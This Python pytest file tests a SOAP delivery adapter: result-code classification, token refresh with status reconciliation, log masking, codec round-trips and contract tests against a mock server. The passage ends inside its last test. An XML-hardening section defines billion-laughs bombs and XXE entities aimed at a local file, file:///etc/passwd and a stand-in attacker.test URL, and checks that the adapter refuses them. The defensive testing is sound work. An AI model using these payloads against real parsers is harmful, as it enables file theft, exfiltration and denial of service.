"""SoapAdapter: edge cases on recorded SOAP envelopes (respx), XML hardening, and the contract with the spyne mock.

The recorded files in ``data/soap/`` were captured from ``mock_platforms.soap`` (see ``data/soap/README.md``);
the WSDLs there advertise the 前置机's internal address ``10.0.0.8:8080``, which the adapter must not use —
it talks to its configured ``base_url`` (``qzj.test`` here), as behind the NAT of a real deployment.
"""

from __future__ import annotations

import asyncio
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
import structlog
import zeep.exceptions
from lxml import etree

from adapters.base import DestinationAdapter
from adapters.conformance import DestinationConformance, ErrorCase, Receiver, reply
from adapters.errors import AdapterError, DecodeError, OutcomeUnknownError, PermanentError, RetryableError
from adapters.soap import SoapAdapter
from adapters.soap.codec import decode_body, encode, serial_number
from adapters.soap.reply import RESULT_CODES
from factories import approval, envelope
from gateway.config import DestinationConfig
from gateway.relay import Destination, Relay
from gateway.store import Route
from gateway.store.sqlite import SQLiteStore
from mock_platforms import create_app
from mock_platforms.server import RunningServer, run_in_background
from schemas import ApprovalDecided, Classification, Envelope, SupervisionTaskCreated

DATA = Path(__file__).parent / "data" / "soap"
BASE = "http://qzj.test/soap"
AUTH_URL = f"{BASE}/auth"
EXCHANGE_URL = f"{BASE}/exchange"
ATTACKER = "http://attacker.test"
EXCHANGE_NS = "urn:shenguan:mock:soap:exchange"
SERVICE_ID = "SGLD_APPROVAL_DECIDED"
NODE = "QZJ-320700"
KEY = "dlv:zwfw:soap:320700261121000012345:1"
SN = serial_number(KEY)
ENVELOPE = envelope()
PERSONAL = ("91320700MA1X2Y3K05", "13800138000")


# -- recorded envelopes -------------------------------------------------------------------------------------
def recorded(name: str) -> bytes:
    return (DATA / name).read_bytes()


def result(code: str = "0", message: str = "接收成功", sn: str = SN, **fields: str) -> str:
    """A reply document of the exchange, built like the mock builds it."""
    root = ET.Element("Result")
    for tag, value in (("Code", code), ("Message", message), ("Sn", sn), *fields.items()):
        ET.SubElement(root, tag).text = value
    return ET.tostring(root, encoding="unicode")


def envelope_with(operation: str, document: str) -> bytes:
    """The recorded ``service``/``query`` response envelope with ``document`` as its result string."""
    name = "service_response.xml" if operation == "service" else "query_received_response.xml"
    tree = etree.fromstring(recorded(name))
    node = tree.find(f".//{{{EXCHANGE_NS}}}{operation}Result")
    assert node is not None
    node.text = document
    return etree.tostring(tree, xml_declaration=True, encoding="UTF-8")


def xml_reply(content: bytes, status: int = 200) -> httpx.Response:
    return httpx.Response(status, content=content, headers={"content-type": "text/xml; charset=utf-8"})


def service_reply(document: str) -> httpx.Response:
    return xml_reply(envelope_with("service", document))


def query_reply(document: str) -> httpx.Response:
    return xml_reply(envelope_with("query", document))


def login_reply(token: str) -> httpx.Response:
    tree = etree.fromstring(recorded("login_response.xml"))
    node = tree.find(".//{urn:shenguan:mock:soap:auth}loginResult")
    assert node is not None
    node.text = token
    return xml_reply(etree.tostring(tree, xml_declaration=True, encoding="UTF-8"))


def soap_action(request: httpx.Request) -> str:
    return request.headers.get("soapaction", "").strip('"')


def sent_message(request: httpx.Request) -> ET.Element:
    """The ``ExchangeMessage`` inside a ``service`` request."""
    body = etree.fromstring(request.content)
    node = body.find(f".//{{{EXCHANGE_NS}}}xml")
    assert node is not None and node.text
    return ET.fromstring(node.text)


class Exchange:
    """respx routes for the recorded 前置机: WSDLs and logins as recorded, ``service``/``query`` scripted."""

    def __init__(self, router: respx.MockRouter) -> None:
        self.router = router
        self.tokens = iter(f"tok-{i}" for i in range(1, 100))
        self.service_replies: list[Any] = []
        self.query_replies: list[Any] = []
        self.services: list[httpx.Request] = []
        self.queries: list[httpx.Request] = []
        router.get(AUTH_URL, name="auth_wsdl").mock(return_value=xml_reply(recorded("auth.wsdl")))
        router.get(EXCHANGE_URL, name="exchange_wsdl").mock(return_value=xml_reply(recorded("exchange.wsdl")))
        router.post(AUTH_URL, name="login").mock(side_effect=lambda _r: login_reply(next(self.tokens)))
        router.post(EXCHANGE_URL, name="exchange").mock(side_effect=self._exchange)
        self.attacker = router.route(host="attacker.test", name="attacker").mock(return_value=httpx.Response(200))

    def _exchange(self, request: httpx.Request) -> httpx.Response:
        operation = soap_action(request)
        calls, replies = (
            (self.services, self.service_replies) if operation == "service" else (self.queries, self.query_replies)
        )
        calls.append(request)
        reply = replies.pop(0) if len(replies) > 1 else replies[0]
        if isinstance(reply, Exception):
            raise reply
        return reply(request) if callable(reply) else reply


def echo_sn(request: httpx.Request) -> httpx.Response:
    """The healthy exchange's answer to a ``service`` call: accepted, naming the request's own Sn."""
    return service_reply(result(sn=sent_message(request).findtext("Header/Sn") or "", ReceiptNo="HZ1"))


@pytest.fixture
def exchange() -> Iterator[Exchange]:
    with respx.mock(assert_all_called=False) as router:
        fake = Exchange(router)
        fake.service_replies.append(echo_sn)
        fake.query_replies.append(query_reply(result(Status="NOT_FOUND")))
        yield fake


def make_adapter(base_url: str = BASE, **overrides: Any) -> SoapAdapter:
    options = {
        "base_url": base_url,
        "user": "shenguan",
        "password": "soap-mock-password",
        "service_id": SERVICE_ID,
        "receiver": NODE,
        "sender": "JSSPJ-320700",
    }
    return SoapAdapter.from_config("soap", options | overrides)


@pytest.fixture
async def adapter() -> AsyncIterator[SoapAdapter]:
    a = make_adapter()
    yield a
    await a.aclose()


# -- construction -------------------------------------------------------------------------------------------
def test_is_a_destination_adapter_that_reconciles_instead_of_resending() -> None:
    a = make_adapter(timeout_s=3)
    assert isinstance(a, DestinationAdapter) and a.name == "soap"
    caps = SoapAdapter.capabilities
    assert caps.status_query and not caps.idempotent_receiver and caps.event_types == ("approval.decided",)


@pytest.mark.parametrize("missing", ["base_url", "user", "password", "service_id", "receiver"])
def test_from_config_names_missing_option(missing: str) -> None:
    options = {"base_url": BASE, "user": "u", "password": "p", "service_id": "S", "receiver": "R"}
    del options[missing]
    with pytest.raises(ValueError, match=missing):
        SoapAdapter.from_config("soap", options)


def test_serial_number_is_deterministic_and_fits_legacy_columns() -> None:
    assert serial_number(KEY) == serial_number(KEY) == SN
    assert serial_number(KEY + "x") != SN
    assert len(SN) == 32 and SN.startswith("SG") and SN.isalnum() and SN == SN.upper()


# -- the message on the wire --------------------------------------------------------------------------------
async def test_deliver_sends_one_exchange_message(adapter: SoapAdapter, exchange: Exchange) -> None:
    receipt = await adapter.deliver(ENVELOPE, KEY)
    assert (receipt.remote_id, receipt.replayed, dict(receipt.detail)) == ("HZ1", False, {"sn": SN, "receiptNo": "HZ1"})
    [request] = exchange.services
    assert str(request.url) == EXCHANGE_URL, "the configured address, not the WSDL's internal one"
    assert request.headers["X-Token"] == "tok-1" and request.headers["X-Service-Id"] == SERVICE_ID
    message = sent_message(request)
    header = {child.tag: child.text for child in message.find("Header")}
    assert header["Sn"] == SN and header["ServiceId"] == SERVICE_ID and header["Receiver"] == NODE
    assert header["Sender"] == "JSSPJ-320700" and header["MessageType"] == "approval.decided"
    assert header["MessageId"] == ENVELOPE.id and header["SendTime"].endswith("+08:00")
    assert ET.tostring(message.find("Body"), encoding="unicode") == encode(ENVELOPE)
    assert exchange.router["login"].call_count == 1 and exchange.queries == []


async def test_wsdls_are_loaded_once(adapter: SoapAdapter, exchange: Exchange) -> None:
    for i in range(3):
        await adapter.deliver(ENVELOPE, f"{KEY}-{i}")
    await adapter.query_status(ENVELOPE, KEY)
    assert exchange.router["auth_wsdl"].call_count == 1 and exchange.router["exchange_wsdl"].call_count == 1


async def test_concurrent_deliveries_share_one_login(adapter: SoapAdapter, exchange: Exchange) -> None:
    await asyncio.gather(*(adapter.deliver(ENVELOPE, f"{KEY}-{i}") for i in range(6)))
    assert exchange.router["login"].call_count == 1 and len(exchange.services) == 6
    assert {r.headers["X-Token"] for r in exchange.services} == {"tok-1"}


async def test_concurrent_calls_keep_their_own_headers(exchange: Exchange) -> None:
    """Headers travel per call (a ContextVar), not in zeep's thread-local settings shared by all tasks."""
    one, two = make_adapter(), make_adapter(service_id="SGLD_OTHER")
    try:
        await asyncio.gather(*(a.deliver(ENVELOPE, f"{KEY}-{i}") for i in range(4) for a in (one, two)))
    finally:
        await one.aclose()
        await two.aclose()
    for request in exchange.services:
        assert request.headers["X-Service-Id"] == sent_message(request).findtext("Header/ServiceId")


async def test_special_characters_are_escaped_by_the_builder(adapter: SoapAdapter, exchange: Exchange) -> None:
    applicant = approval().applicant.model_dump() | {"name": 'A&B <有限> "公司" ]]> &amp;'}
    env = envelope(applicant=applicant)
    await adapter.deliver(env, KEY)
    assert sent_message(exchange.services[0]).findtext("Body/ApprovalRecord/Applicant/Name") == applicant["name"]


async def test_a_value_xml_cannot_carry_is_permanent_and_never_sent(adapter: SoapAdapter, exchange: Exchange) -> None:
    env = envelope(result_description="准予许可\x01")
    with pytest.raises(PermanentError, match=r"XML 1\.0"):
        await adapter.deliver(env, KEY)
    assert exchange.services == []


async def test_other_types_and_secrets_are_refused_offline(adapter: SoapAdapter, exchange: Exchange) -> None:
    from datetime import UTC, datetime

    task = SupervisionTaskCreated(
        task_no="RW1", supervision_matter_code="32070000000001", created_at=datetime(2026, 11, 20, tzinfo=UTC)
    )
    with pytest.raises(PermanentError, match=r"soap does not accept supervision\.task\.created"):
        await adapter.deliver(Envelope.wrap(task, source="hlwjg"), KEY)
    with pytest.raises(PermanentError, match="secret"):
        await adapter.deliver(envelope(classification=Classification.secret), KEY)
    assert exchange.router["login"].call_count == 0 and exchange.services == []


# -- result codes and transport outcomes ----------------------------------------------------------------------
EXPECTED_CLASS = {
    "1003": RetryableError,
    "2001": PermanentError,
    "2002": PermanentError,
    "2003": PermanentError,
    "3001": PermanentError,
    "9001": RetryableError,
    "9999": OutcomeUnknownError,
    "4242": PermanentError,
}


@pytest.mark.parametrize(("code", "error"), sorted(EXPECTED_CLASS.items()))
async def test_result_codes_are_classified(
    adapter: SoapAdapter, exchange: Exchange, code: str, error: type[AdapterError]
) -> None:
    exchange.service_replies[:] = [service_reply(result(code, "AreaCode 必须为 6 位行政区划代码", sn=""))]
    with pytest.raises(error) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert type(info.value) is error and info.value.code == code and "AreaCode" in info.value.reason
    assert len(exchange.services) == 1, "a refusal is not resent by the adapter"


def test_every_documented_code_has_a_test() -> None:
    assert set(RESULT_CODES) - {"0", "1001", "1002"} <= set(EXPECTED_CLASS)


async def test_accepted_for_another_sn_is_outcome_unknown(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(result(sn="SGOTHER", ReceiptNo="HZ9"))]
    with pytest.raises(OutcomeUnknownError, match="SGOTHER"):
        await adapter.deliver(ENVELOPE, KEY)


async def test_platform_messages_are_masked_in_reasons(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(result("2003", "联系电话 13800138000 与证件 91320700MA1X2Y3K05 不符"))]
    with pytest.raises(PermanentError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "13800138000" not in info.value.reason and "138****8000" in info.value.reason


@pytest.mark.parametrize(
    ("reply", "error", "code"),
    [
        (httpx.Response(503, text="Service Unavailable", headers={"Retry-After": "7"}), RetryableError, "503"),
        (httpx.Response(429), RetryableError, "429"),
        (httpx.Response(408), RetryableError, "408"),
        (httpx.Response(502, text="Bad Gateway"), OutcomeUnknownError, "502"),
        (httpx.Response(504), OutcomeUnknownError, "504"),
        (httpx.Response(404, text="no"), PermanentError, "404"),
        (httpx.Response(500, text="<html>oops</html>"), OutcomeUnknownError, None),
        (httpx.Response(200, text="not xml at all"), OutcomeUnknownError, None),
        (xml_reply(recorded("service_response.xml")[:200]), OutcomeUnknownError, None),
        (xml_reply(recorded("fault_server_response.xml"), 500), OutcomeUnknownError, "Server"),
        (xml_reply(recorded("fault_client_response.xml"), 500), PermanentError, "Client.SchemaValidationError"),
        (httpx.ConnectError("refused"), RetryableError, None),
        (httpx.ReadTimeout("slow"), OutcomeUnknownError, None),
        (httpx.RemoteProtocolError("Server disconnected without sending a response."), OutcomeUnknownError, None),
        (ConnectionResetError("reset by peer"), OutcomeUnknownError, None),
    ],
    ids=[
        "503",
        "429",
        "408",
        "502",
        "504",
        "404",
        "500-html",
        "200-garbage",
        "truncated",
        "server-fault",
        "client-fault",
        "connect",
        "read-timeout",
        "dropped",
        "raw-oserror",
    ],
)
async def test_transport_outcomes(
    adapter: SoapAdapter, exchange: Exchange, reply: Any, error: type[AdapterError], code: str | None
) -> None:
    exchange.service_replies[:] = [reply]
    with pytest.raises(error) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert type(info.value) is error and info.value.code == code
    if code == "503":
        assert info.value.retry_after_s == 7.0


@pytest.mark.parametrize(
    "document",
    ["", "<Result><Message>无结果码</Message></Result>", "<Reply><Code>0</Code></Reply>", "<Result><Code>0</Code>"],
    ids=["empty", "no-code", "wrong-root", "broken"],
)
async def test_unreadable_reply_document_is_outcome_unknown(
    adapter: SoapAdapter, exchange: Exchange, document: str
) -> None:
    exchange.service_replies[:] = [service_reply(document)]
    with pytest.raises(OutcomeUnknownError, match=SN):
        await adapter.deliver(ENVELOPE, KEY)


async def test_wsdl_unavailable_is_retryable_and_nothing_is_sent(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.router["exchange_wsdl"].mock(side_effect=[httpx.Response(503), xml_reply(recorded("exchange.wsdl"))])
    with pytest.raises(RetryableError, match="WSDL"):
        await adapter.deliver(ENVELOPE, KEY)
    assert exchange.services == []
    assert (await adapter.deliver(ENVELOPE, KEY)).remote_id == "HZ1", "loaded on the next attempt"


# -- tokens: refresh, then reconcile before any resend --------------------------------------------------------
@pytest.mark.parametrize("code", ["1001", "1002"])
async def test_refused_token_found_by_query_is_not_resent(adapter: SoapAdapter, exchange: Exchange, code: str) -> None:
    exchange.service_replies[:] = [service_reply(result(code, "令牌已过期", sn=""))]
    exchange.query_replies[:] = [query_reply(result("0", "已接收", Status="RECEIVED", ReceiptNo="HZ7"))]
    receipt = await adapter.deliver(ENVELOPE, KEY)
    assert (receipt.remote_id, receipt.replayed) == ("HZ7", True)
    assert len(exchange.services) == 1, "the exchange held it: never resent"
    [query] = exchange.queries
    assert query.headers["X-Token"] == "tok-2", "asked with the fresh token"
    assert etree.fromstring(query.content).findtext(f".//{{{EXCHANGE_NS}}}sn") == SN


async def test_refused_token_not_found_is_resent_with_the_same_sn(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [
        service_reply(result("1002", "令牌已过期", sn="")),
        service_reply(result(ReceiptNo="HZ8")),
    ]
    receipt = await adapter.deliver(ENVELOPE, KEY)
    assert receipt.remote_id == "HZ8" and len(exchange.queries) == 1
    first, second = exchange.services
    assert [r.headers["X-Token"] for r in (first, second)] == ["tok-1", "tok-2"]
    assert sent_message(first).findtext("Header/Sn") == sent_message(second).findtext("Header/Sn") == SN
    order = [soap_action(call.request) or "GET" for call in exchange.router.calls if call.request.method == "POST"]
    assert order == ["login", "service", "login", "query", "service"], "query before the resend"


async def test_token_refused_right_after_login_is_retryable(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(result("1001", "令牌无效", sn=""))]
    with pytest.raises(RetryableError, match="freshly issued token"):
        await adapter.deliver(ENVELOPE, KEY)
    assert len(exchange.services) == 2 and len(exchange.queries) == 1


async def test_query_failing_after_token_refresh_is_retryable_without_resend(
    adapter: SoapAdapter, exchange: Exchange
) -> None:
    exchange.service_replies[:] = [service_reply(result("1002", "令牌已过期", sn=""))]
    exchange.query_replies[:] = [httpx.ReadTimeout("slow")]
    with pytest.raises(RetryableError, match="status query failed"):
        await adapter.deliver(ENVELOPE, KEY)
    assert len(exchange.services) == 1, "no resend while the first attempt's fate is unknown"


async def test_wrong_password_is_retryable_with_a_fix_and_no_secret(exchange: Exchange) -> None:
    exchange.router["login"].mock(
        return_value=xml_reply(
            recorded("fault_client_response.xml").replace(
                b"Client.SchemaValidationError", b"Client.AuthenticationFailed"
            ),
            500,
        )
    )
    a = make_adapter(password="s3cret-pa55")
    try:
        with pytest.raises(RetryableError) as info:
            await a.deliver(ENVELOPE, KEY)
    finally:
        await a.aclose()
    assert info.value.code == "Client.AuthenticationFailed" and "user/password" in info.value.reason
    assert "s3cret-pa55" not in info.value.reason and exchange.services == []


@pytest.mark.parametrize(
    "reply",
    [
        httpx.Response(503),
        httpx.ConnectError("refused"),
        httpx.ReadTimeout("slow"),
        xml_reply(recorded("fault_server_response.xml"), 500),
    ],
    ids=["503", "connect", "read-timeout", "server-fault"],
)
async def test_login_failures_are_retryable(exchange: Exchange, adapter: SoapAdapter, reply: Any) -> None:
    exchange.router["login"].mock(side_effect=[reply])
    with pytest.raises(RetryableError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert type(info.value) is RetryableError and exchange.services == []


# -- status query ---------------------------------------------------------------------------------------------
async def test_query_status_found(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.query_replies[:] = [query_reply(result("0", "已接收", Status="RECEIVED", ReceiptNo="HZ5"))]
    receipt = await adapter.query_status(ENVELOPE, KEY)
    assert receipt is not None and (receipt.remote_id, receipt.replayed) == ("HZ5", True)
    assert exchange.queries[0].headers["X-Service-Id"] == SERVICE_ID


@pytest.mark.parametrize(
    "document",
    [result("0", "未找到该流水号", Status="NOT_FOUND"), result("0", "已拒收", Status="REJECTED", ErrorCode="2003")],
    ids=["not-found", "rejected"],
)
async def test_query_status_not_held(adapter: SoapAdapter, exchange: Exchange, document: str) -> None:
    exchange.query_replies[:] = [query_reply(document)]
    assert await adapter.query_status(ENVELOPE, KEY) is None


async def test_query_status_refreshes_a_refused_token(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.query_replies[:] = [query_reply(result("1002", "令牌已过期")), query_reply(result(Status="NOT_FOUND"))]
    assert await adapter.query_status(ENVELOPE, KEY) is None
    assert [r.headers["X-Token"] for r in exchange.queries] == ["tok-1", "tok-2"]


@pytest.mark.parametrize(
    "reply",
    [
        xml_reply(recorded("fault_server_response.xml"), 500),
        httpx.Response(503),
        httpx.ReadTimeout("slow"),
        httpx.Response(200, text="?"),
        query_reply("<Result><Code>0</Code>"),
        query_reply(result("9001", "系统繁忙")),
        query_reply(result(sn="SGOTHER", Status="RECEIVED")),
        query_reply(result(Status="MAYBE")),
        query_reply(result("1001", "令牌无效")),
    ],
    ids=[
        "server-fault",
        "503",
        "read-timeout",
        "garbage",
        "broken-document",
        "busy",
        "other-sn",
        "odd-status",
        "token-refused-twice",
    ],
)
async def test_query_status_failures_are_retryable(adapter: SoapAdapter, exchange: Exchange, reply: Any) -> None:
    exchange.query_replies[:] = [reply]
    with pytest.raises(RetryableError) as info:
        await adapter.query_status(ENVELOPE, KEY)
    assert type(info.value) is RetryableError


# -- XML hardening: bombs and external entities are refused, never expanded or fetched -----------------------
BILLION_LAUGHS_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def inner_bomb() -> str:
    """A billion laughs reply document: ``&lol9;`` is 10^9 × "lol" once expanded (3 GB)."""
    return f"{BILLION_LAUGHS_DTD}<Result><Code>3001</Code><Message>&lol9;</Message><Sn>{SN}</Sn></Result>"


def outer_bomb() -> bytes:
    """A SOAP envelope whose own DTD defines the billion laughs, used inside the result string."""
    text = recorded("service_response.xml").decode().split("\n", 1)[1]
    text = text.replace("接收成功", "&lol9;")
    return f"<?xml version='1.0' encoding='UTF-8'?>\n{BILLION_LAUGHS_DTD}{text}".encode()


def xxe_dtd(target: str) -> str:
    return f'<!DOCTYPE Result [<!ENTITY xxe SYSTEM "{target}">]>'


def inner_xxe(target: str) -> str:
    # Code 3001 echoes Message into the error reason: had the entity been resolved, its content would show there.
    return f"{xxe_dtd(target)}<Result><Code>3001</Code><Message>&xxe;</Message><Sn>{SN}</Sn></Result>"


def outer_xxe(target: str) -> bytes:
    text = recorded("service_response.xml").decode().split("\n", 1)[1]
    text = text.replace("&lt;Code&gt;0&lt;", "&lt;Code&gt;3001&lt;").replace("接收成功", "&xxe;")
    dtd = xxe_dtd(target).replace("Result", "soap11env:Envelope")
    return f"<?xml version='1.0' encoding='UTF-8'?>\n{dtd}{text}".encode()


@pytest.fixture
def canary(tmp_path: Path) -> tuple[str, str]:
    """A local file an XXE would read, with content that would surface in the error reason if it were read."""
    secret = "CANARY-7f3a9c-secret-file-content"
    path = tmp_path / "canary.txt"
    path.write_text(secret, encoding="utf-8")
    return path.as_uri(), secret


def test_the_payloads_are_live_against_an_unhardened_parser(canary: tuple[str, str]) -> None:
    """Sanity check of the test payloads: a parser that resolves entities does read the file and expand."""
    uri, secret = canary
    naive = etree.XMLParser(resolve_entities=True, no_network=True)
    assert etree.fromstring(inner_xxe(uri).encode(), naive).findtext("Message") == secret
    small_bomb = BILLION_LAUGHS_DTD.replace("lol9", "lol2") + "<Result><Message>&lol2;</Message></Result>"
    assert etree.fromstring(small_bomb.encode(), naive).findtext("Message") == "lol" * 100
    assert secret in etree.tostring(etree.fromstring(outer_xxe(uri), naive)).decode()


async def test_billion_laughs_in_the_reply_document_is_refused(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(inner_bomb())]
    with pytest.raises(OutcomeUnknownError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "DTD" in info.value.reason and "lollol" not in info.value.reason


async def test_billion_laughs_in_the_soap_envelope_is_refused(adapter: SoapAdapter, exchange: Exchange) -> None:
    """libxml2 (lxml's size limits stay on: ``xml_huge_tree=False``) refuses the bomb before zeep sees a tree."""
    exchange.service_replies[:] = [xml_reply(outer_bomb())]
    with pytest.raises(OutcomeUnknownError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "amplification" in info.value.reason and "lollol" not in info.value.reason


async def test_entity_declarations_in_the_soap_envelope_are_refused(adapter: SoapAdapter, exchange: Exchange) -> None:
    """A bomb small enough for libxml2's limits still meets zeep's ``forbid_dtd``: refused at the DOCTYPE."""
    exchange.service_replies[:] = [xml_reply(outer_bomb().replace(b"&lol9;", b"&lol3;"))]
    with pytest.raises(OutcomeUnknownError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "DTDForbidden" in info.value.reason and "lollol" not in info.value.reason
    assert isinstance(info.value.__cause__, zeep.exceptions.DTDForbidden), "refused at the DOCTYPE, unexpanded"


@pytest.mark.parametrize("where", ["reply-document", "soap-envelope"])
async def test_external_entity_file_is_never_read(
    adapter: SoapAdapter, exchange: Exchange, canary: tuple[str, str], where: str
) -> None:
    uri, secret = canary
    reply = service_reply(inner_xxe(uri)) if where == "reply-document" else xml_reply(outer_xxe(uri))
    exchange.service_replies[:] = [reply]
    with structlog.testing.capture_logs() as logs, pytest.raises(OutcomeUnknownError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "DTD" in info.value.reason
    assert secret not in info.value.reason and secret not in repr(logs)


async def test_external_entity_etc_passwd_is_never_read(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(inner_xxe("file:///etc/passwd"))]
    with pytest.raises(OutcomeUnknownError) as info:
        await adapter.deliver(ENVELOPE, KEY)
    assert "root:" not in info.value.reason and "/bin/" not in info.value.reason


@pytest.mark.parametrize("where", ["reply-document", "soap-envelope", "external-dtd"])
async def test_external_entity_url_is_never_fetched(adapter: SoapAdapter, exchange: Exchange, where: str) -> None:
    replies = {
        "reply-document": lambda: service_reply(inner_xxe(f"{ATTACKER}/steal")),
        "soap-envelope": lambda: xml_reply(outer_xxe(f"{ATTACKER}/steal")),
        "external-dtd": lambda: service_reply(
            f'<!DOCTYPE Result SYSTEM "{ATTACKER}/x.dtd"><Result><Code>0</Code></Result>'
        ),
    }
    exchange.service_replies[:] = [replies[where]()]
    with pytest.raises(OutcomeUnknownError):
        await adapter.deliver(ENVELOPE, KEY)
    assert exchange.attacker.call_count == 0


async def test_hostile_status_reply_is_retryable_not_trusted(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.query_replies[:] = [query_reply(inner_bomb().replace("3001", "0"))]
    with pytest.raises(RetryableError, match="DTD"):
        await adapter.query_status(ENVELOPE, KEY)


async def test_hostile_wsdl_is_refused_and_its_imports_never_fetched(adapter: SoapAdapter, exchange: Exchange) -> None:
    wsdl = recorded("exchange.wsdl").decode().split("\n", 1)[1]
    hostile = f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "{ATTACKER}/wsdl">]>{wsdl}'
    exchange.router["exchange_wsdl"].mock(return_value=xml_reply(hostile.encode()))
    with pytest.raises(RetryableError, match=r"WSDL .* unusable: DTDForbidden"):
        await adapter.deliver(ENVELOPE, KEY)
    assert exchange.attacker.call_count == 0 and exchange.services == []


async def test_oversized_reply_document_is_refused(adapter: SoapAdapter, exchange: Exchange) -> None:
    exchange.service_replies[:] = [service_reply(result(message="x" * 1_000_001))]
    with pytest.raises(OutcomeUnknownError, match="refused"):
        await adapter.deliver(ENVELOPE, KEY)


# -- logs -----------------------------------------------------------------------------------------------------
async def test_no_personal_data_in_any_log(adapter: SoapAdapter, exchange: Exchange, caplog: Any) -> None:
    """zeep's own transport logs whole SOAP bodies at DEBUG; the adapter's transport must not."""
    exchange.service_replies[:] = [service_reply(result(ReceiptNo="HZ1")), xml_reply(b"<oops", 500)]
    caplog.set_level("DEBUG")
    with structlog.testing.capture_logs() as logs:
        await adapter.deliver(ENVELOPE, KEY)
        with pytest.raises(OutcomeUnknownError):
            await adapter.deliver(ENVELOPE, KEY + "b")
    events = [e["event"] for e in logs]
    assert "soap.delivered" in events and "soap.deliver_failed" in events
    text = repr(logs) + caplog.text
    assert SN in text
    for value in PERSONAL:
        assert value not in text


# -- codec ----------------------------------------------------------------------------------------------------
def _variants() -> list[ApprovalDecided]:
    sample = approval()
    person = {"kind": "natural", "name": "张三", "id_type": "resident_id", "id_number": "11010519491231002X"}
    return [
        sample,
        approval(
            applicant=person,
            received_at=None,
            result="rejected",
            result_description=None,
            certificate=None,
            commitment=None,
        ),
        approval(
            result="voided",
            certificate={"valid_from": "2026-01-01", "long_term": True},
            commitment={"mode": "deferred_materials"},
        ),
        approval(
            applicant={
                "kind": "legal",
                "name": "连云港某某个体户",
                "id_type": "uscc",
                "id_number": "00000000000000000X",
                "business_registration_no": "320700600123456",
            },
            result="forwarded",
            commitment={"mode": "material_verification", "period_days": 5},
        ),
    ]


@pytest.mark.parametrize("payload", _variants(), ids=["sample", "person-rejected", "long-term", "placeholder-uscc"])
def test_round_trip_canonical_native_canonical(payload: ApprovalDecided) -> None:
    env = Envelope.wrap(payload, source="zwfw", revision=3)
    body = encode(env)
    assert decode_body(body).model_dump(mode="json") == env.data
    assert ET.fromstring(body).findtext("ApprovalRecord/DataVersion") == "3"


def test_decode_body_reads_empty_elements_as_absent_and_rejects_bad_input() -> None:
    body = encode(ENVELOPE).replace("<ResultText>准予许可</ResultText>", "<ResultText/>")
    assert decode_body(body).result_description is None
    with pytest.raises(DecodeError, match="Result must be one of"):
        decode_body(body.replace(">GRANTED<", ">MAYBE<"))
    with pytest.raises(DecodeError, match="DTD or entity"):
        decode_body(inner_bomb())
    with pytest.raises(DecodeError, match="well-formed"):
        decode_body("<Body>")
    with pytest.raises(DecodeError, match=r"applicant\.id_number"):
        decode_body(body.replace("91320700MA1X2Y3K05", "91320700MA1X2Y3K0X"))


# -- contract with the running spyne mock (real HTTP) ---------------------------------------------------------
class Clock:
    def __init__(self) -> None:
        self.now = 1_795_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
async def mock() -> AsyncIterator[tuple[RunningServer, Clock]]:
    clock = Clock()
    server = await run_in_background(app=create_app(clock=clock))
    yield server, clock
    await server.stop()


@pytest.fixture
async def control(mock: tuple[RunningServer, Clock]) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=f"{mock[0].base_url}/soap/_mock") as client:
        yield client


@pytest.fixture
async def live(mock: tuple[RunningServer, Clock]) -> AsyncIterator[SoapAdapter]:
    a = make_adapter(f"{mock[0].base_url}/soap", timeout_s=5)
    yield a
    await a.aclose()


async def held(control: httpx.AsyncClient) -> dict[str, Any]:
    return (await control.get("/records")).json()


async def faults(control: httpx.AsyncClient, **settings: Any) -> None:
    assert (await control.post("/faults", json=settings)).status_code == 200


async def redeliver(adapter: SoapAdapter, env: Envelope, key: str) -> Any:
    """A later attempt exactly as the relay makes it after an unknown outcome: status query first."""
    receipt = await adapter.query_status(env, key)
    return receipt if receipt is not None else await adapter.deliver(env, key)


async def test_contract_deliver_and_query(live: SoapAdapter, control: httpx.AsyncClient) -> None:
    receipt = await live.deliver(ENVELOPE, KEY)
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"], report["rejected"]) == (1, 0, 0)
    [record] = report["records"]
    assert record["receiptNo"] == receipt.remote_id and record["sns"] == [SN]
    assert record["record"]["Applicant"]["IdNumber"] == "91320700MA1X2Y3K05"
    found = await live.query_status(ENVELOPE, KEY)
    assert found is not None and found.remote_id == receipt.remote_id
    assert await live.query_status(ENVELOPE, KEY + "-never-sent") is None


async def test_contract_revision_updates_the_record(live: SoapAdapter, control: httpx.AsyncClient) -> None:
    await live.deliver(ENVELOPE, KEY)
    await live.deliver(envelope(revision=2, result_description="准予许可（更正）"), KEY + ":2")
    report = await held(control)
    assert (report["accepted"], report["duplicate_creations"]) == (1, 0)
    assert report["records"][0]["dataVersion"] == 2


async def test_contract_blind_resend_is_what_duplicates(live: SoapAdapter, control: httpx.AsyncClient) -> None:
    """The receiver really is not idempotent: the reason the adapter never resends without asking."""
    await live.deliver(ENVELOPE, KEY)
